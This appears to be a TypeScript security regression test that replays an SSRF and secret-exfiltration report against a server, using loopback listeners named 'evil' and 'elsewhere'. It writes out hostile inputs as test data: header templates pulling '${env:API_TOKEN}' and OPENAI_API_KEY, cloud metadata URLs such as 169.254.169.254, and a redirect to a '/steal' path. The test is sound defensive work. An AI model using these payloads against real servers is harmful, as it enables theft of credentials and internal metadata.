/**
 * Issue 48 against a live server: targets are a door out only if an annotator can make the server send
 * its secrets, or another user's, to a listener of theirs. Every attack of the report is replayed here
 * over HTTP, with the attacker's listeners on loopback recording what reached them.
 */
import http from "node:http";
import type { AddressInfo } from "node:net";
import { check, importDataset, personWithKey, type Check } from "./data";
import type { TurnscopeServer } from "./server";

type Listener = { url: string; seen: Array<{ url: string; headers: http.IncomingHttpHeaders }>; close(): Promise<void> };

async function listen(respond: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Listener> {
  const seen: Listener["seen"] = [];
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? "", headers: req.headers });
    req.resume();
    req.on("end", () => respond(req, res));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

const reply = (_q: http.IncomingMessage, res: http.ServerResponse) => res.writeHead(200, { "content-type": "application/json" }).end('{"reply":"ok"}');

/** A target and a generation in the store, so the fuzz and the role matrix meet real rows at id 1 and beyond. */
export async function seedTargetAndGeneration(server: TurnscopeServer, headers: Record<string, string> = {}): Promise<void> {
  const { datasetId } = await importDataset(server, `targets-seed-${Date.now()}`, { conversations: [{ name: "seed", messages: [{ role: "user", content: "hi" }, { role: "assistant", content: "hello" }] }] });
  const target = await server.request("POST", "/api/targets", { name: "seed target", kind: "http_json", url: "http://127.0.0.1:9/agent", request_template: '{"q": "{{last_user_message}}"}', reply_path: "reply", timeout_ms: 1000 }, headers);
  await server.request("POST", "/api/generations", { source_dataset_id: datasetId, target_id: target.json?.id, mode: "replay" }, headers);
}

export async function targetsSection(server: TurnscopeServer, secrets: { token: string }) {
  const checks: Check[] = [];
  const keyOf = (name: string, role: string) => personWithKey(server, name, role);
  const anna = await keyOf("anna-targets", "annotator");
  const mallory = await keyOf("mallory-targets", "annotator");
  const viewer = await keyOf("vic-targets", "viewer");
  const home = await listen(reply);
  const evil = await listen(reply);
  const elsewhere = await listen(reply);
  const redirecting = await listen((_q, res) => res.writeHead(307, { location: `${elsewhere.url}/steal` }).end());
  const agent = (url: string, extra: Record<string, unknown> = {}) => ({ name: "agent", kind: "http_json", url, request_template: '{"q": "{{last_user_message}}"}', reply_path: "reply", timeout_ms: 5000, ...extra });
  try {
    // 1. The server's own environment.
    const leaks: Record<string, number> = {};
    for (const name of ["API_TOKEN", "OPENAI_API_KEY", "DATABASE_PATH", "DATABASE_URL"]) leaks[name] = (await server.request("POST", "/api/targets", agent(evil.url, { headers: { "x-leak": `\${env:${name}}` } }), mallory)).status;
    check(checks, "a header naming ${env:API_TOKEN}, OPENAI_API_KEY, DATABASE_PATH or DATABASE_URL is refused (422)", Object.values(leaks).every((s) => s === 422), leaks);

    // 2. Another user's target, with an admin's secret header.
    const owned = await server.request("POST", "/api/targets", agent(home.url, { headers: { authorization: "Bearer admins-agent-key" } }));
    const stolen = await server.request("PATCH", `/api/targets/${owned.json?.id}`, { url: evil.url }, mallory);
    const deleted = await server.request("DELETE", `/api/targets/${owned.json?.id}`, undefined, mallory);
    check(checks, "an annotator cannot PATCH or DELETE another's target (403)", owned.status === 201 && stolen.status === 403 && deleted.status === 403, { owned: owned.status, stolen: stolen.status, deleted: deleted.status });
    const mine = await server.request("POST", "/api/targets", agent(home.url, { headers: { "api-key": "annas-own-secret" } }), anna);
    const moved = await server.request("PATCH", `/api/targets/${mine.json?.id}`, { url: evil.url }, anna);
    check(checks, "a target moved to another URL by its owner loses its stored headers", moved.status === 200 && Array.isArray(moved.json?.header_names) && moved.json.header_names.length === 0, moved.json);

    // 3. Redirects across origins, through a real generation.
    const { datasetId } = await importDataset(server, `targets-${Date.now()}`, { conversations: [{ name: "one", messages: [{ role: "user", content: "hi" }, { role: "assistant", content: "hello" }] }] });
    const redirect = await server.request("POST", "/api/targets", agent(redirecting.url, { headers: { "api-key": "custom-secret" } }), anna);
    const generation = await server.request("POST", "/api/generations", { source_dataset_id: datasetId, target_id: redirect.json?.id, mode: "replay" }, anna);
    let final: { status?: string; dataset_id?: number } = {};
    for (let i = 0; i < 200 && !["completed", "failed", "cancelled"].includes(String(final.status)); i++) {
      await new Promise((r) => setTimeout(r, 100));
      final = (await server.request("GET", `/api/generations/${generation.json?.id}`, undefined, anna)).json ?? {};
    }
    const generated = (await server.request("GET", `/api/datasets/${final.dataset_id}/conversations`, undefined, anna)).json as Array<{ id: number }> | undefined;
    const meta = generated?.[0] ? (await server.request("GET", `/api/conversations/${generated[0].id}`, undefined, anna)).json?.meta : undefined;
    check(checks, "a target redirected (307) to another origin: the generation ends, the other origin receives nothing", generation.status === 202 && redirecting.seen.length >= 1 && elsewhere.seen.length === 0 && /another origin/.test(String(meta?.error)), { status: final.status, error: meta?.error, elsewhere: elsewhere.seen.length });

    // 4. Credentials in a URL.
    const withCreds = `${home.url.replace("http://", "http://agentuser:hunter2pass@")}/chat?api-key=querysecret99`;
    const created = await server.request("POST", "/api/targets", agent(withCreds), anna);
    const asViewer = await server.request("GET", "/api/targets", undefined, viewer);
    const asAdmin = await server.request("GET", `/api/targets/${created.json?.id}`);
    check(checks, "a URL's credentials are masked for viewers and annotators, shown to admins", created.status === 201 && !/hunter2pass|querysecret99/.test(asViewer.text) && !/hunter2pass|querysecret99/.test(created.text) && asAdmin.json?.url === withCreds, { viewer: asViewer.status });

    // 5. Where a target may point.
    const places: Record<string, number> = {};
    for (const url of ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/", "http://0.0.0.0/", "http://[::ffff:169.254.169.254]/", "http://[fe80::1]/"]) places[url] = (await server.request("POST", "/api/targets", agent(url), mallory)).status;
    check(checks, "link-local, metadata and unspecified addresses are refused from an annotator (422)", Object.values(places).every((s) => s === 422), places);
    const viewerWrite = await server.request("POST", "/api/targets", agent(home.url), viewer);
    check(checks, "a viewer cannot create a target (403)", viewerWrite.status === 403, viewerWrite.status);

    const everything = [home, evil, elsewhere].flatMap((l) => l.seen.map((s) => JSON.stringify(s.headers)));
    const carried = everything.filter((h) => h.includes(secrets.token) || h.includes("admins-agent-key") || h.includes("annas-own-secret"));
    check(checks, "no listener of the attacker's received the token, an admin's header or a moved target's header", evil.seen.every((s) => !JSON.stringify(s.headers).includes("secret")) && carried.every((h) => !h.includes(secrets.token)), carried.slice(0, 2));
    await seedTargetAndGeneration(server);
    return { checks, figures: { listener_requests: { home: home.seen.length, evil: evil.seen.length, elsewhere: elsewhere.seen.length } } };
  } finally {
    await Promise.all([home.close(), evil.close(), elsewhere.close(), redirecting.close()]);
  }
}
